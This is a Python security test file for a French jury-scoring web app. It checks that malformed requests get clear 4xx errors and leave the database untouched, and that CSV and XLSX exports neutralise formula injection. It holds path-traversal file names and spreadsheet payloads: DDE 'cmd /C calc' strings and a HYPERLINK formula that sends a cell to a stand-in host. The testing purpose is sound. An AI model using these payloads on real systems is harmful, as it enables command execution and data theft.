"""Issue 7, invariant 5: bad input gets a clear 4xx naming the field (or the CSV line), and writes nothing.

One catalogue: each row sends one malformed request to a form (French page), the JSON API or an import,
and says which status, field, line or French message must come back. Around every request the test takes
a fingerprint of every table of the public schema (row count and a digest of the rows), and the two must
be equal: a refused request that wrote half of itself is as bad as a 500.

The second half (formula injection) puts names starting with `=`, `+`, `-`, `@`, a tab or a carriage
return into the data the way people do (imports, a conflict's reason), then downloads every CSV and XLSX
the application serves and checks that a spreadsheet would show each of them as text, never run it.
"""

from __future__ import annotations

import csv
import html
import io
import re
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from typing import Any

import asyncpg
import openpyxl
import pytest
from litestar.testing import AsyncTestClient
from tests.security.conftest import (
    EDITION,
    ORGANISER,
    Demo,
    anonymous_client,
    juror_client,
    organiser_client,
)

# Changed by any request and by nothing else: server-side sessions and the sign-in rate limiter; and the
# assignment page's stored summaries, a cache of figures computed from the round (written by a visit).
VOLATILE_TABLES = {"kv_store", "round_assignment_summaries"}
HTML_ACCEPT = {"accept": "text/html"}
FORM = "application/x-www-form-urlencoded"
JSON = "application/json"
KEY = "0b5e3c1a-7d2f-4e8a-9c6b-1f2e3d4c5b6a"
INT4_OVERFLOW = 2**31  # one beyond PostgreSQL's integer
INT8_OVERFLOW = 2**63  # one beyond bigint
HUGE = 10**30  # beyond anything a JSON number decoder holds as an integer
NOT_UTF8_FIELD = "Ce champ n'est pas du texte UTF-8 valide."
NOT_UTF8_JSON = "Le corps de la requête n'est pas du texte UTF-8 valide."
HAS_NUL = "Ce champ contient un caractère nul : retirez-le."
INVALID = "Données invalides."
# The demo runs with the default limit, 5 MiB; the oversized bodies below are 6 MB.
TOO_LARGE = "Fichier ou requête trop volumineux (5 Mo au plus) : rien n'a été enregistré."
CANDIDATE_HEADER = b"nom_structure;nom_porteur;courriel;code_insee\r\n"
CANDIDATE_ROW = b"Atelier Suresnes;Jeanne Roux;jeanne@atelier-suresnes.fr;92073\r\n"
GOOD_CSV = CANDIDATE_HEADER + CANDIDATE_ROW


@dataclass(frozen=True)
class Bad:
    """One malformed request and the refusal it must get.

    `path` and bodies may use {round}, {candidate}, {panel}, {criterion}, {max_plus}, {version} (the
    sheet's current one): filled in from the demo; KEY in a raw body is the idempotency key. `field`,
    `line` and `text` are what the answer must name: in the JSON `errors` (or `detail`), or on the page.
    """

    who: str  # organiser, juror, anonymous
    method: str
    path: str
    status: int
    field: str | None = None
    line: int | None = None
    text: str | None = None
    json: Any = None
    content: bytes | str | None = None  # a str is filled in like the paths, then sent as UTF-8
    content_type: str | None = None
    form: dict[str, str] | None = None
    files: dict[str, tuple[str, bytes]] | None = None
    multipart: list[tuple[str, str | None, bytes]] | None = None  # raw parts: name, file name, bytes
    page: bool = False  # a browser asking for the French page


def csv_upload(name: str, content: bytes) -> dict[str, tuple[str, bytes]]:
    return {"file": (name, content)}


API_IMPORT = f"/api/editions/{EDITION}/imports/candidats"
PAGE_IMPORT = f"/organisation/editions/{EDITION}/import/"
SHEET_API = "/api/jure/feuilles/{round}/{candidate}"
SHEET_PAGE = "/jure/feuilles/{round}/{candidate}"
OUT_OF_RANGE = "la note doit être comprise"
FILE_REFUSED = "Le fichier n'a pas pu être lu : rien n'a été importé."
PATH_IN_NAME = "Nom de fichier refusé : envoyez le fichier lui-même, sans chemin ni caractère de contrôle."


def sheet(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"version": "{version}", "idempotency_key": KEY, "status": "draft", "values": {}}
    body.update(changes)
    return body


CASES = [
    # --- Oversized bodies: refused before anything is read --------------------------------------------------
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            413,
            text=TOO_LARGE,
            content=b"{" + b" " * 6_000_000,
            content_type=JSON,
        ),
        id="json-sheet-over-the-upload-limit",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            413,
            text=TOO_LARGE,
            files=csv_upload("candidats.csv", GOOD_CSV + CANDIDATE_ROW * 100_000),
        ),
        id="api-import-over-the-upload-limit",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            PAGE_IMPORT,
            413,
            text=TOO_LARGE,
            page=True,
            files=csv_upload("candidats.csv", GOOD_CSV + CANDIDATE_ROW * 100_000),
        ),
        id="page-import-over-the-upload-limit",
    ),
    pytest.param(
        Bad(
            "anonymous",
            "POST",
            "/acces",
            413,
            text=TOO_LARGE,
            page=True,
            content=b"code=" + b"A" * 6_000_000,
            content_type=FORM,
        ),
        id="sign-in-form-over-the-upload-limit",
    ),
    # --- Wrong types in JSON bodies: refused by the body's type, 422 like the services' refusals -------------
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="version", text=INVALID, json=sheet(version="zéro")),
        id="json-sheet-version-is-a-string",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="version", json=sheet(version=None)),
        id="json-sheet-version-is-null",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="values", json=sheet(values=[1, 2])),
        id="json-sheet-values-is-a-list",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="values", json=sheet(values={"{criterion}": "dix"})),
        id="json-sheet-mark-is-a-string",
    ),
    pytest.param(
        Bad(
            "juror", "PUT", SHEET_API, 422, field="idempotency_key", json=sheet(idempotency_key="pas-un-uuid")
        ),
        id="json-sheet-key-is-not-a-uuid",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="corps", json=[sheet()]),
        id="json-sheet-body-is-a-list",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="corps", content=b"null", content_type=JSON),
        id="json-sheet-body-is-null",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 400, field="corps", content=b'{"version": 0,', content_type=JSON),
        id="json-sheet-body-is-truncated",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="status", json=sheet(status="final")),
        id="json-sheet-unknown-status",
    ),
    pytest.param(
        Bad("juror", "PUT", SHEET_API, 422, field="note", json=sheet(note="en trop")),
        id="json-sheet-unknown-field",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            "/api/jure/tours/{round}/conflits",
            422,
            field="declarations[0].candidate_id",
            json={"declarations": [{"candidate_id": None, "has_conflict": True, "reason": "voisin"}]},
        ),
        id="json-declaration-candidate-is-null",
    ),
    pytest.param(
        Bad("organiser", "POST", "/api/rounds/{round}/status", 422, field="to", json={"to": 3}),
        id="json-round-status-is-a-number",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            "/api/rounds/{round}/assignments/pairs",
            422,
            field="person_id",
            json={"person_id": "un", "candidate_id": "{candidate}", "panel_id": "{panel}"},
        ),
        id="json-assignment-person-is-a-string",
    ),
    # --- Out-of-range marks on a juror's sheet --------------------------------------------------------------
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            422,
            field="values.{criterion}",
            text=OUT_OF_RANGE,
            json=sheet(values={"{criterion}": "{max_plus}"}),
        ),
        id="json-sheet-mark-above-the-scale",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            422,
            field="values.{criterion}",
            text=OUT_OF_RANGE,
            json=sheet(values={"{criterion}": -1}),
        ),
        id="json-sheet-negative-mark",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            400,
            field="corps",  # msgspec does not say where: the body as a whole is named
            text="Nombre hors limites.",
            content='{"version": {version}, "idempotency_key": "KEY", "values": {"{criterion}": 1e999}}',
        ),
        id="json-sheet-infinite-mark",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            422,
            field=f"values.{INT8_OVERFLOW - 1}",
            text="Critère inconnu",
            json=sheet(values={str(INT8_OVERFLOW - 1): 5}),
        ),
        id="json-sheet-unknown-criterion",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            SHEET_PAGE,
            422,
            field="value-{criterion}",
            text=OUT_OF_RANGE,
            page=True,
            form={"version": "{version}", "value-{criterion}": "{max_plus}", "action": "draft"},
        ),
        id="page-sheet-mark-above-the-scale",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            SHEET_PAGE,
            422,
            field="value-{criterion}",
            text=OUT_OF_RANGE,
            page=True,
            form={"version": "{version}", "value-{criterion}": "dix", "action": "draft"},
        ),
        id="page-sheet-mark-is-not-a-number",
    ),
    # --- Unknown ids ----------------------------------------------------------------------------------------
    pytest.param(
        Bad(
            "juror",
            "PUT",
            "/api/jure/feuilles/{round}/999999",
            404,
            text="Candidat inconnu dans ce tour.",
            json=sheet(),
        ),
        id="json-sheet-unknown-candidate",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            f"/api/jure/feuilles/{{round}}/{INT4_OVERFLOW}",
            404,
            field="candidate_id",
            text="Cette page n'existe pas.",
            json=sheet(),
        ),
        id="json-sheet-candidate-beyond-int4",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            f"/api/jure/feuilles/{HUGE}/{{candidate}}",
            404,
            field="round_id",
            text="Cette page n'existe pas.",
            json=sheet(),
        ),
        id="json-sheet-round-beyond-int8",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            f"/jure/feuilles/{INT8_OVERFLOW}/{{candidate}}",
            404,
            page=True,
            field="round_id",
            text="Cette page n'existe pas.",
            form={"version": "0"},
        ),
        id="page-sheet-round-beyond-int8",
    ),
    pytest.param(
        Bad(
            "juror", "POST", "/api/ballots/999999/votes", 404, text="Scrutin inconnu.", json={"approved": []}
        ),
        id="json-vote-unknown-ballot",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            f"/api/ballots/{INT8_OVERFLOW}/votes",
            404,
            field="ballot_id",
            text="Cette page n'existe pas.",
            json={"approved": []},
        ),
        id="json-vote-ballot-beyond-int8",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            "/api/rounds/{round}/assignments/pairs",
            404,
            text="Cette personne ne siège dans aucun jury de ce tour.",
            json={"person_id": INT4_OVERFLOW, "candidate_id": "{candidate}"},
        ),
        id="json-assignment-person-beyond-int4",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            "/api/rounds/{round}/assignments/pairs",
            404,
            text="Ce candidat ne concourt pas dans ce tour.",
            json={"person_id": "{juror}", "candidate_id": HUGE},
        ),
        id="json-assignment-candidate-beyond-any-integer",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            "/organisation/rounds/{round}/affectations/ajout",
            422,
            field="person_id",
            page=True,
            form={"person_id": "un", "candidate_id": "{candidate}", "panel_id": "{panel}"},
        ),
        id="page-assignment-person-is-not-a-number",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            "/organisation/rounds/{round}/affectations/ajout",
            404,
            page=True,
            text="Cette personne ne siège dans aucun jury de ce tour.",
            form={"person_id": str(INT8_OVERFLOW - 1), "candidate_id": "{candidate}", "panel_id": "{panel}"},
        ),
        id="page-assignment-person-beyond-int4",
    ),
    pytest.param(
        Bad(
            "organiser",
            "GET",
            f"/organisation/rounds/{INT8_OVERFLOW}/suivi",
            404,
            page=True,
            text="Cette page n'existe pas.",
        ),
        id="page-progress-round-beyond-int8",
    ),
    # --- Invalid UTF-8 ----------------------------------------------------------------------------------------
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            400,
            text=NOT_UTF8_JSON,
            field="comment",
            content=b'{"version": 0, "idempotency_key": "' + KEY.encode() + b'", "comment": "tr\xe8s bien"}',
            content_type=JSON,
        ),
        id="json-sheet-comment-not-utf8",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            SHEET_PAGE,
            400,
            field="comment",
            text=NOT_UTF8_FIELD,
            page=True,
            content=b"version=0&action=draft&comment=tr%E8s+bien",
            content_type=FORM,
        ),
        id="page-sheet-comment-percent-encoded-latin1",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            SHEET_PAGE,
            400,
            field="comment",
            text=NOT_UTF8_FIELD,
            page=True,
            content=b"version=0&action=draft&comment=tr\xe8s+bien",
            content_type=FORM,
        ),
        id="page-sheet-comment-raw-latin1-byte",
    ),
    pytest.param(
        Bad(
            "juror",
            "POST",
            SHEET_PAGE,
            400,
            field="comment",
            text=HAS_NUL,
            page=True,
            content=b"version=0&action=draft&comment=avant%00apr%C3%A8s",
            content_type=FORM,
        ),
        id="page-sheet-comment-with-nul",
    ),
    pytest.param(
        Bad(
            "juror",
            "PUT",
            SHEET_API,
            400,
            field="comment",
            text=HAS_NUL,
            content='{"version": {version}, "idempotency_key": "KEY", "comment": "avant\\u0000après"}',
        ),
        id="json-sheet-comment-with-nul",
    ),
    pytest.param(
        Bad(
            "anonymous",
            "POST",
            "/connexion",
            400,
            field="password",
            text=NOT_UTF8_FIELD,
            page=True,
            content=b"email=claire.vasseur%40exemple.fr&password=%FF%FE",
            content_type=FORM,
        ),
        id="page-sign-in-password-not-utf8",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            PAGE_IMPORT,
            400,
            field="kind",
            text=NOT_UTF8_FIELD,
            page=True,
            multipart=[("kind", None, b"candidats\xff"), ("file", "candidats.csv", GOOD_CSV)],
        ),
        id="page-import-kind-field-not-utf8",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            line=2,
            text=FILE_REFUSED,
            files=csv_upload(
                "candidats.csv", CANDIDATE_HEADER + "Atelier Sèvres".encode() + b";\xe8;a@b.fr;92072\r\n"
            ),
        ),
        id="csv-mixing-utf8-and-latin1",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            line=1,
            text=FILE_REFUSED,
            files=csv_upload("candidats.csv", "nom_structure;courriel\r\nA;a@b.fr\r\n".encode("utf-16")),
        ),
        id="csv-in-utf16",
    ),
    # --- CSV shapes -----------------------------------------------------------------------------------------
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="code_insee",
            line=1,
            text="Le fichier contient 1 erreur : rien n'a été importé.",
            files=csv_upload("candidats.csv", b"\xef\xbb\xbfnom_structure;courriel\r\nA;a@b.fr\r\n"),
        ),
        id="csv-with-bom-missing-a-column",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="séparateur",
            line=1,
            text=FILE_REFUSED,
            files=csv_upload("candidats.csv", GOOD_CSV.replace(b";", b"|")),
        ),
        id="csv-with-pipe-delimiter",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="code_insee",
            line=3,
            text="Le fichier contient 1 erreur : rien n'a été importé.",
            files=csv_upload("candidats.csv", GOOD_CSV + b"Atelier Vanves;;vanves@exemple.fr;92140\r\n"),
        ),
        id="csv-postcode-instead-of-insee-on-line-3",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            PAGE_IMPORT,
            422,
            field="code_insee",
            line=3,
            page=True,
            text="Le fichier contient 1 erreur : rien n'a été importé.",
            files=csv_upload("candidats.csv", GOOD_CSV + b"Atelier Vanves;;vanves@exemple.fr;92140\r\n"),
            multipart=[("kind", None, b"candidats"), ("action", None, b"importer")],
        ),
        id="page-csv-postcode-instead-of-insee-on-line-3",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="file",
            text="Aucun fichier reçu : rien n'a été importé.",
            multipart=[("fichier", "candidats.csv", GOOD_CSV)],
        ),
        id="api-import-file-in-the-wrong-field",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            f"/api/editions/{EDITION}/imports/budgets",
            404,
            files=csv_upload("candidats.csv", GOOD_CSV),
        ),
        id="api-import-unknown-kind",
    ),
    # --- Path tricks in uploaded file names (valid content: only the name is wrong) ---------------------------
    # (An absolute Windows path, "C:\\…", never reaches the application: the multipart parser keeps its last
    # part, as old Internet Explorer sent full paths.)
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            text=FILE_REFUSED,
            files=csv_upload("../../etc/passwd.csv", GOOD_CSV),
        ),
        id="file-name-climbing-directories",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            text=FILE_REFUSED,
            files=csv_upload("/etc/passwd.csv", GOOD_CSV),
        ),
        id="file-name-absolute-posix-path",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            text=FILE_REFUSED,
            files=csv_upload("..\\..\\Windows\\candidats.csv", GOOD_CSV),
        ),
        id="file-name-climbing-windows-directories",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            API_IMPORT,
            422,
            field="fichier",
            text=FILE_REFUSED,
            multipart=[("file", "candidats\x00.csv", GOOD_CSV)],
        ),
        id="file-name-with-nul-byte",
    ),
    pytest.param(
        Bad(
            "organiser",
            "POST",
            PAGE_IMPORT,
            422,
            field="fichier",
            text=PATH_IN_NAME,
            page=True,
            files=csv_upload("../../etc/passwd.csv", GOOD_CSV),
            multipart=[("kind", None, b"candidats"), ("action", None, b"importer")],
        ),
        id="page-file-name-climbing-directories",
    ),
]


# --- Fingerprints of the database ----------------------------------------------------------------------------


async def fingerprint(conn: asyncpg.Connection) -> dict[str, tuple[int, str]]:
    """Row count and a digest of the rows of every table of the public schema (but the volatile ones)."""
    tables = [
        r["table_name"]
        for r in await conn.fetch(
            "select table_name from information_schema.tables "
            "where table_schema = 'public' and table_type = 'BASE TABLE' order by table_name"
        )
        if r["table_name"] not in VOLATILE_TABLES
    ]
    parts = " union all ".join(
        f"select '{t}' as name, count(*) as n, "
        f"coalesce(md5(string_agg(md5(x::text), '' order by md5(x::text))), '') as digest "
        f'from public."{t}" x'
        for t in tables
    )
    return {r["name"]: (r["n"], r["digest"]) for r in await conn.fetch(parts)}


def changed(before: dict[str, tuple[int, str]], after: dict[str, tuple[int, str]]) -> dict[str, Any]:
    return {
        t: (before.get(t), after.get(t))
        for t in before.keys() | after.keys()
        if before.get(t) != after.get(t)
    }


# --- Fixtures -----------------------------------------------------------------------------------------------


@dataclass
class World:
    demo: Demo
    clients: dict[str, AsyncTestClient]
    values: dict[str, str] = field(default_factory=dict)


@pytest.fixture(scope="module")
async def world(demo: Demo) -> AsyncIterator[World]:
    """The three visitors; the juror has declared their conflicts, so their sheets are open for writing."""
    s = demo.settings
    clients = {
        "organiser": await organiser_client(s, ORGANISER),
        "juror": await juror_client(s, edition_id=demo.edition_id, person_id=demo.juror_id),
        "anonymous": await anonymous_client(s),
    }
    juror = clients["juror"]
    current = (await juror.get(f"/api/jure/tours/{demo.round_id}/conflits")).json()
    undeclared = [
        {"candidate_id": row["candidate"]["id"], "has_conflict": False}
        for row in current["candidates"]
        if not row["declared"]
    ]
    if undeclared:
        response = await juror.put(
            f"/api/jure/tours/{demo.round_id}/conflits", json={"declarations": undeclared}
        )
        assert response.status_code == 200, response.text
    page = await juror.get(f"/api/jure/feuilles/{demo.round_id}/{demo.candidate_id}")
    assert page.status_code == 200, page.text
    criterion = page.json()["criteria"][0]
    values = {
        "round": str(demo.round_id),
        "candidate": str(demo.candidate_id),
        "panel": str(demo.panel_id),
        "juror": str(demo.juror_id),
        "criterion": str(criterion["id"]),
        "max_plus": str(criterion["max"] + 1),
        "version": str(page.json()["version"]),
    }
    yield World(demo=demo, clients=clients, values=values)
    for client in clients.values():
        await client.__aexit__(None, None, None)


def fill(value: Any, values: dict[str, str]) -> Any:
    """Put the demo's ids into a row's strings; a string that is only a placeholder becomes a number."""
    if isinstance(value, str):
        whole = re.fullmatch(r"\{(\w+)\}", value)
        if whole and whole.group(1) in values:
            number = values[whole.group(1)]
            return float(number) if "." in number else int(number)
        return re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), m.group(0)), value)
    if isinstance(value, dict):
        return {fill_key(k, values): fill(v, values) for k, v in value.items()}
    if isinstance(value, list):
        return [fill(v, values) for v in value]
    return value


def fill_key(key: str, values: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: values.get(m.group(1), m.group(0)), key)


def multipart_body(parts: list[tuple[str, str | None, bytes]]) -> tuple[bytes, str]:
    """A multipart body written by hand, so that names and fields can carry any byte."""
    boundary = uuid.uuid4().hex
    out = b""
    for name, file_name, content in parts:
        disposition = f'form-data; name="{name}"'.encode()
        if file_name is not None:
            disposition += b'; filename="' + file_name.encode("utf-8") + b'"'
        out += b"--" + boundary.encode() + b"\r\nContent-Disposition: " + disposition + b"\r\n"
        if file_name is not None:
            out += b"Content-Type: text/csv\r\n"
        out += b"\r\n" + content + b"\r\n"
    out += b"--" + boundary.encode() + b"--\r\n"
    return out, f"multipart/form-data; boundary={boundary}"


async def send(client: AsyncTestClient, bad: Bad, values: dict[str, str]):
    path = fill_key(bad.path, values)
    headers = dict(HTML_ACCEPT) if bad.page else {"accept": JSON}
    kwargs: dict[str, Any] = {}
    if bad.multipart is not None:
        parts = list(bad.multipart)
        for name, (file_name, content) in (bad.files or {}).items():
            parts.append((name, file_name, content))
        kwargs["content"], headers["content-type"] = multipart_body(parts)
    elif bad.files is not None:
        kwargs["files"] = bad.files
    elif bad.form is not None:
        kwargs["data"] = fill(bad.form, values)
    elif bad.content is not None:
        kwargs["content"] = (
            fill_key(bad.content, values).replace("KEY", KEY).encode()
            if isinstance(bad.content, str)
            else bad.content
        )
        headers["content-type"] = bad.content_type or JSON
    elif bad.json is not None:
        kwargs["json"] = fill(bad.json, values)
    return await client.request(bad.method, path, headers=headers, follow_redirects=False, **kwargs)


def page_text(body: str) -> str:
    """What a person reads on the page: tags dropped, entities decoded, spaces collapsed."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", body)).split())


@pytest.mark.parametrize("bad", CASES)
async def test_malformed_input_is_refused_clearly_and_writes_nothing(bad: Bad, world: World) -> None:
    """Why: a tablet on a flaky network, a spreadsheet saved in the wrong format or a hand-written script
    must each learn what is wrong (status, field or line, in French on pages) and leave no trace."""
    conn = await asyncpg.connect(world.demo.settings.database_url)
    try:
        before = await fingerprint(conn)
        response = await send(world.clients[bad.who], bad, world.values)
        after = await fingerprint(conn)
    finally:
        await conn.close()

    assert response.status_code == bad.status, response.text[:1500]
    assert not changed(before, after), changed(before, after)
    field_name = fill_key(bad.field, world.values) if bad.field else None
    if bad.page:
        assert response.headers["content-type"].startswith("text/html"), response.headers["content-type"]
        shown = page_text(response.text)
        if bad.text:
            assert bad.text in shown, shown[:1500]
        if field_name:
            assert field_name in response.text, shown[:1500]
        if bad.line is not None:
            assert re.search(rf"\b{bad.line}\b", shown), shown[:1500]
        return
    assert response.headers["content-type"].startswith(JSON), response.headers["content-type"]
    body = response.json()
    assert body["status_code"] == bad.status
    errors = body.get("errors", [])
    if bad.text:
        assert bad.text == body["detail"] or any(bad.text in e["message"] for e in errors), body
    if field_name:
        assert field_name in {e.get("field") for e in errors}, body
        named = next(e for e in errors if e.get("field") == field_name)
        assert named["message"] and not named["message"].startswith(("Expected", "Object", "Invalid")), named
    if bad.line is not None:
        assert bad.line in {e.get("line") for e in errors}, body


# --- Formula injection in exports ----------------------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# What people type (or paste) that a spreadsheet would run; the marker lets the test find every copy.
PAYLOADS = {
    "equals": '=HYPERLINK("http://exemple.invalid/?"&A1;"pwn-equals")',
    "plus": "+1+cmd|' /C calc'!A0 pwn-plus",
    "minus": "-2+3+cmd|' /C calc'!A0 pwn-minus",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0 pwn-at",
}


def is_number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?", text) is not None


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def dangerous_cells(cells: list[Any]) -> list[str]:
    """Text cells a spreadsheet would evaluate: numbers (even negative ones) are fine, formulas are not."""
    return [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(DANGEROUS) and not is_number(cell.strip())
    ]


@pytest.fixture(scope="module")
async def injected(world: World) -> dict[str, str]:
    """Names that spreadsheets would run, put in the way they arrive: imports (refused), a typed reason, and
    renamed demo rows (a panel, a category, people and candidates with sheets, so that standings carry them)."""
    demo, organiser, juror = world.demo, world.clients["organiser"], world.clients["juror"]
    rows = [
        "nom_structure;nom_porteur;courriel;code_insee;projet",
        *(
            f"{p.replace(';', ',')};{p.replace(';', ',')};injection-{k}@exemple.fr;92050;{p.replace(';', ',')}"
            for k, p in PAYLOADS.items()
        ),
    ]
    response = await organiser.post(
        API_IMPORT, files=csv_upload("candidats.csv", ("\r\n".join(rows) + "\r\n").encode("utf-8-sig"))
    )
    # Imports refuse formula-looking cells outright, each named (tests/imports); the names below reach the
    # exports through the rows renamed in the database instead.
    assert response.status_code == 422, response.text
    assert {e["field"] for e in response.json()["errors"]} == {"nom_structure", "nom_porteur", "projet"}
    jurors = ["nom;courriel;qualite"] + [
        f"{p.replace(';', ',')};jure-{k}@exemple.fr;{p.replace(';', ',')}" for k, p in PAYLOADS.items()
    ]
    response = await organiser.post(
        f"/api/editions/{EDITION}/imports/jures",
        files=csv_upload("jures.csv", ("\r\n".join(jurors) + "\r\n").encode("utf-8")),
    )
    assert response.status_code == 422, response.text

    conn = await asyncpg.connect(demo.settings.database_url)
    try:
        candidates = await conn.fetch(
            "select distinct a.candidate_id from assignments a join panels p on p.id = a.panel_id "
            "where p.round_id = $1 order by a.candidate_id limit 4",
            demo.round_id,
        )
        for (key, payload), row in zip(PAYLOADS.items(), candidates, strict=True):
            await conn.execute(
                "update candidates set organisation_name = $2, person_name = $2, creation_name = $2 where id = $1",
                row["candidate_id"],
                payload + "\t" if key == "at" else payload,
            )
        await conn.execute(
            "update people set full_name = $2 where id = $1", demo.juror_id, "\t" + PAYLOADS["equals"]
        )
        await conn.execute(
            "update panels set name = $2 where id = $1", demo.panel_id, "\r" + PAYLOADS["plus"]
        )
        await conn.execute(
            "update categories set name = $2 where id = (select category_id from candidates where id = $1)",
            demo.candidate_id,
            PAYLOADS["minus"],
        )
        await conn.execute("update people set full_name = $2 where email = $1", ORGANISER, PAYLOADS["at"])
    finally:
        await conn.close()

    # A conflict declared by a juror with a reason typed on the tablet: it goes to the conflict register.
    current = (await juror.get(f"/api/jure/tours/{demo.round_id}/conflits")).json()
    target = next(row["candidate"]["id"] for row in current["candidates"] if row["has_conflict"] is False)
    response = await juror.put(
        f"/api/jure/tours/{demo.round_id}/conflits",
        json={"declarations": [{"candidate_id": target, "has_conflict": True, "reason": PAYLOADS["equals"]}]},
    )
    # Declarations are final once made; the register shows the earlier "aucun conflit" if this is refused.
    assert response.status_code in (200, 409, 422), response.text
    return PAYLOADS


EXPORTS: list[tuple[str, str, Callable[[bytes], list[Any]]]] = [
    ("standings-csv", "/organisation/rounds/{round}/classement.csv", csv_cells),
    ("standings-xlsx", "/organisation/rounds/{round}/classement.xlsx", xlsx_cells),
    ("progress-csv", "/organisation/rounds/{round}/suivi.csv", csv_cells),
    ("conflict-register-csv", f"/organisation/editions/{EDITION}/conflits.csv", csv_cells),
    ("audit-csv", "/organisation/audit.csv", csv_cells),
    ("candidates-template", f"/organisation/editions/{EDITION}/import/modele/candidats", csv_cells),
    ("jurors-template", f"/organisation/editions/{EDITION}/import/modele/jures", csv_cells),
]


@pytest.mark.parametrize(("name", "path", "read"), EXPORTS, ids=[e[0] for e in EXPORTS])
async def test_exports_neutralise_cells_a_spreadsheet_would_run(
    name: str, path: str, read: Callable[[bytes], list[Any]], world: World, injected: dict[str, str]
) -> None:
    """Why: organisers open these files in Excel or LibreOffice; a candidate named `=HYPERLINK(…)` must
    show as text there (an apostrophe in front), not open a link or run a command (OWASP CSV injection)."""
    response = await world.clients["organiser"].get(fill_key(path, world.values))
    assert response.status_code == 200, response.text[:500]
    cells = read(response.content)
    assert cells, name
    assert dangerous_cells(cells) == [], name
    if name.endswith("template"):
        return  # header only: no user data
    shown = [c for c in cells if isinstance(c, str) and "pwn-" in c]
    assert shown, f"{name}: none of the injected names reached the export"
    for cell in shown:
        # XLSX stores a carriage return as a line feed: the apostrophe is what matters.
        assert cell.startswith("'") and cell[1:2] in (*DANGEROUS, "\n"), (name, cell)


def test_every_download_of_the_application_is_in_the_export_list() -> None:
    """Why: a new CSV or XLSX route must join the formula-injection check above, not slip past it."""
    from litestar.routes import HTTPRoute

    from jury.app import create_app
    from jury.settings import load_settings

    app = create_app(load_settings({}, database_url="postgresql://unused/unused"))
    downloads = set()
    for route in app.routes:
        if not isinstance(route, HTTPRoute):
            continue
        for handler in route.route_handlers:
            media = str(handler.media_type)
            if "csv" in media or "spreadsheet" in media or route.path.endswith((".csv", ".xlsx")):
                downloads.add(re.sub(r"\{(\w+):\w+\}", r"{\1}", route.path))
    covered = {
        re.sub(
            r"/(candidats|jures)$", "/{kind}", p.replace(EDITION, "{slug}").replace("{round}", "{round_id}")
        )
        for _, p, _ in EXPORTS
    }
    assert downloads <= covered, downloads - covered
